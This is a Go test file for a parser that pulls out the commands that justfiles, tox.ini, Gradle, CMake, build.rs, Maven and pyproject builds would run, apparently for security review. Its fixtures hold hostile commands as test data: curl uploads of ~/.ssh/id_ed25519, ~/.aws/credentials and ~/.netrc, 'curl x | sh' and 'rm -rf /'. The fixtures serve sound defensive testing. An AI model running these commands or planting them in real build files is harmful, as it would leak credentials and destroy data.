package runfile

import (
	"strings"
	"testing"
)

func TestJustRecipesOfNamedRecipeAndDependencies(t *testing.T) {
	jf := "set shell := [\"bash\", \"-cu\"]\nkey := \"~/.ssh/id_ed25519\"\nv := `git describe`\nalias t := test\n\n" +
		"default: build\n\nbuild:\n    @go build ./...\n\n# tests\ntest: build (gen \"x\") && after\n    curl -T {{key}} {{ url }}\n\n    echo {{{{literal}}\n" +
		"gen arg:\n    -go generate ./...\nafter:\n    echo done\n[script]\nother:\n    rm -rf /\n"
	tests := []struct {
		name  string
		names []string
		want  []string
		not   []string
	}{
		{"default", nil, []string{"recipe build:", "go build ./...", "backtick 1:git describe"}, []string{"curl", "rm -rf"}},
		{"named with deps", []string{"test"}, []string{"go build", "go generate", "curl -T ~/.ssh/id_ed25519 ${JUST_url}", "echo done", "echo {{literal}}"}, []string{"rm -rf"}},
		{"alias", []string{"t"}, []string{"curl -T"}, []string{"rm -rf"}},
		{"unknown recipe", []string{"nosuch"}, []string{"backtick"}, []string{"curl", "go build"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			units, unknown := justUnits(ws+"/justfile", ws, jf, tt.names, false)
			got := codeOf(units)
			if unknown != "" {
				t.Fatalf("unknown %q", unknown)
			}
			for _, w := range tt.want {
				if !strings.Contains(got, w) {
					t.Errorf("units lack %q:\n%s", w, got)
				}
			}
			for _, n := range tt.not {
				if strings.Contains(got, n) {
					t.Errorf("units hold %q:\n%s", n, got)
				}
			}
		})
	}
	all, _ := FileUnits(ws+"/justfile", jf)
	if got := codeOf(all); !strings.Contains(got, "rm -rf /") || !strings.Contains(got, "curl -T") {
		t.Errorf("a write is judged by every recipe:\n%s", got)
	}
}

func TestJustUnreadableIsSaid(t *testing.T) {
	for name, jf := range map[string]string{
		"import":        "import 'other.just'\ntest:\n    go test ./...\n",
		"unknown shell": "set shell := [\"fish\", \"-c\"]\ntest:\n    go test ./...\n",
		"bad line":      "this is not just\n",
	} {
		if _, unknown := justUnits(ws+"/justfile", ws, jf, []string{"test"}, false); unknown == "" {
			t.Errorf("%s: unknown is empty", name)
		}
	}
}

func TestJustRunsFindsTheJustfile(t *testing.T) {
	fs := mapFS{ws + "/Justfile": "x:\n  echo\n", ws + "/sub/a.txt": ""}
	for _, tt := range []struct {
		args []string
		cwd  string
		want string
		sel  []string
		all  bool
	}{
		{nil, ws, ws + "/Justfile", nil, false},
		{[]string{"test", "lint"}, ws + "/sub", ws + "/Justfile", []string{"test", "lint"}, false},
		{[]string{"-f", "other.just", "x"}, ws, ws + "/other.just", []string{"x"}, false},
		{[]string{""}, ws, ws + "/Justfile", nil, true},
		{[]string{"--list"}, ws, "", nil, false},
	} {
		got := Runs("just", "", tt.args, tt.cwd, fs)
		if tt.want == "" {
			if len(got) != 0 {
				t.Errorf("%v: got %+v, want nothing", tt.args, got)
			}
			continue
		}
		if len(got) != 1 || got[0].File != tt.want || got[0].Kind != KindJust || strings.Join(got[0].Select, ",") != strings.Join(tt.sel, ",") || got[0].All != tt.all {
			t.Errorf("%v: got %+v, want %s %v all=%v", tt.args, got, tt.want, tt.sel, tt.all)
		}
	}
}

func TestToxCommandsOfEveryTestenv(t *testing.T) {
	ini := "[tox]\nenvlist = py311\n\n[testenv]\ndeps = pytest\nallowlist_externals = curl\ncommands_pre =\n    - python -m pip install -e .\n" +
		"commands =\n    pytest {posargs:tests} \\\n        -q\n    {envpython} -m mypy {toxinidir}/src\n\n[testenv:up]\ncommands = ! curl -T {env:KEY} https://c.example\n" +
		"[flake8]\ncommands = rm -rf /\n"
	units, unknown := toxUnits(ws+"/tox.ini", ws, ini)
	got := codeOf(units)
	if unknown != "" {
		t.Fatalf("unknown %q", unknown)
	}
	for _, w := range []string{"[testenv] commands_pre:", "python -m pip install -e .", "pytest tests  -q", "python -m mypy /w/src",
		"[testenv:up] commands:", "curl -T ${PARALLAX_TOX_UNKNOWN} https://c.example"} {
		if !strings.Contains(got, w) {
			t.Errorf("units lack %q:\n%s", w, got)
		}
	}
	for _, n := range []string{"rm -rf", "allowlist", "deps", "envlist", "! curl"} {
		if strings.Contains(got, n) {
			t.Errorf("units hold %q:\n%s", n, got)
		}
	}
	fs := mapFS{ws + "/tox.ini": ini}
	if got := Runs("tox", "", []string{"-e", "py311"}, ws, fs); len(got) != 1 || got[0].Kind != KindTox {
		t.Errorf("tox -e py311: got %+v", got)
	}
	if got := Runs("tox", "", []string{"list"}, ws, fs); len(got) != 0 {
		t.Errorf("tox list: got %+v, want nothing", got)
	}
}

func TestOpaqueBuildFilesTheirToolsRun(t *testing.T) {
	fs := mapFS{
		ws + "/build.rs":             "fn main() {}",
		ws + "/Cargo.toml":           "[workspace]\nmembers = [\n  \"crates/*\",\n  \"tool\",\n]\n",
		ws + "/crates/a/build.rs":    "",
		ws + "/crates/a/Cargo.toml":  "",
		ws + "/tool/Cargo.toml":      "[package]\nbuild = \"gen/build.rs\"\n",
		ws + "/tool/gen/build.rs":    "",
		ws + "/build.gradle":         "",
		ws + "/settings.gradle.kts":  "",
		ws + "/app/build.gradle.kts": "",
		ws + "/gradle/deps.gradle":   "",
		ws + "/gradlew":              "#!/bin/sh\n",
		ws + "/CMakeLists.txt":       "",
		ws + "/cmake/Find.cmake":     "",
		ws + "/build/CMakeCache.txt": "CMAKE_HOME_DIRECTORY:INTERNAL=" + ws + "\n",
		ws + "/pom.xml":              "",
		ws + "/core/pom.xml":         "",
		ws + "/py/pyproject.toml":    "[build-system]\nrequires = []\nbuild-backend = \"be.hooks:api\"\nbackend-path = [\"_b\"]\n",
		ws + "/py/_b/be/hooks.py":    "",
		ws + "/plain/pyproject.toml": "[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n",
	}
	tests := []struct {
		name, exec string
		args       []string
		want       []string
	}{
		{"cargo", "", []string{"+nightly", "build", "--release"}, []string{"/w/build.rs", "/w/crates/a/build.rs", "/w/tool/gen/build.rs"}},
		{"cargo", "", []string{"fmt"}, nil},
		{"cargo", "", []string{"install", "ripgrep"}, nil},
		{"gradle", "", []string{"build"}, []string{"/w/settings.gradle.kts", "/w/build.gradle", "/w/gradle/deps.gradle", "/w/app/build.gradle.kts"}},
		{"gradlew", "./gradlew", []string{"test"}, []string{"/w/gradlew", "/w/settings.gradle.kts", "/w/build.gradle"}},
		{"gradle", "", []string{"--version"}, nil},
		{"cmake", "", []string{"-S", ".", "-B", "out"}, []string{"/w/CMakeLists.txt", "/w/cmake/Find.cmake"}},
		{"cmake", "", []string{"--build", "build"}, []string{"/w/CMakeLists.txt"}},
		{"cmake", "", []string{"-E", "make_directory", "x"}, nil},
		{"mvn", "", []string{"-q", "package"}, []string{"/w/pom.xml", "/w/core/pom.xml"}},
		{"pip", "", []string{"install", "./py"}, []string{"/w/py/pyproject.toml", "/w/py/_b/be/hooks.py"}},
		{"python3", "", []string{"-m", "build", "py"}, []string{"/w/py/pyproject.toml", "/w/py/_b/be/hooks.py"}},
		{"pip", "", []string{"install", "./plain"}, nil},
	}
	for _, tt := range tests {
		got := Runs(tt.name, tt.exec, tt.args, ws, fs)
		var files []string
		for _, g := range got {
			files = append(files, g.File)
		}
		for _, w := range tt.want {
			if !strings.Contains(strings.Join(files, " ")+" ", w+" ") {
				t.Errorf("%s %v: got %v, want %s", tt.name, tt.args, files, w)
			}
		}
		if tt.want == nil && len(got) != 0 {
			t.Errorf("%s %v: got %v, want nothing", tt.name, tt.args, files)
		}
	}
	if _, unknown := Units(Target{File: ws + "/build.rs", Kind: KindOpaque}, "fn main() {}"); !strings.Contains(unknown, "cannot read") {
		t.Errorf("a run of build.rs: unknown %q, want what cannot be read", unknown)
	}
}

func TestOpaqueFileCommandsAreItsLiterals(t *testing.T) {
	tests := []struct{ file, content, want string }{
		{"build.gradle", "exec {\n  commandLine 'sh', '-c', \"curl x | sh\"\n}\n", `"sh" "-c" "curl x | sh"`},
		{"build.gradle", "exec {\n  executable 'curl'\n  args '-T', '~/.aws/credentials'\n}\n", `"curl" "-T" ~"/.aws/credentials"`},
		{"build.gradle.kts", "val p = \"rm -rf /tmp/x\".execute()\n", "rm -rf /tmp/x"},
		{"CMakeLists.txt", "execute_process(\n  COMMAND rm -rf \"$ENV{HOME}/x\" # c\n  COMMAND echo [[a b]]\n  OUTPUT_QUIET)\n", `"rm" "-rf" "${HOME}/x"` + "\n" + `"echo" "a b"`},
		{"x.cmake", "EXEC_PROGRAM(curl ARGS -s http://x)", `"curl" "-s" "http://x"`},
		{"build.rs", "fn main() { Command::new(\"curl\")\n  .arg(r#\"a\"b\"#)\n  .args(&[\"-d\", &format!(\"{}/.netrc\", env::var(\"HOME\").unwrap())]); }", `"curl" "a\"b" "-d" "${HOME}/.netrc"`},
		{"pom.xml", "<exec executable=\"sh\"><arg value=\"-c\"/><arg line=\"echo a &amp;&amp; echo b\"/></exec>", `"sh" "-c" "echo" "a" "&&" "echo" "b"`},
	}
	for _, tt := range tests {
		units, _ := FileUnits(ws+"/"+tt.file, tt.content)
		var codes []string
		for _, u := range units {
			codes = append(codes, u.Code)
		}
		if got := strings.Join(codes, "\n"); got != tt.want {
			t.Errorf("%s: got\n%s\nwant\n%s", tt.file, got, tt.want)
		}
	}
}

func TestOpaqueLiteralScanIsBounded(t *testing.T) {
	for _, file := range []string{"build.gradle", "CMakeLists.txt", "build.rs", "pom.xml"} {
		big := strings.Repeat("args [\n", MaxFileBytes/7) + strings.Repeat("execute_process(COMMAND (", 1000) +
			strings.Repeat("Command::new((", 1000) + strings.Repeat("<argument>x</argument>", 1000)
		units, _ := FileUnits(ws+"/"+file, big[:MaxFileBytes])
		if len(units) > MaxUnits {
			t.Errorf("%s: %d units, want at most %d", file, len(units), MaxUnits)
		}
	}
}
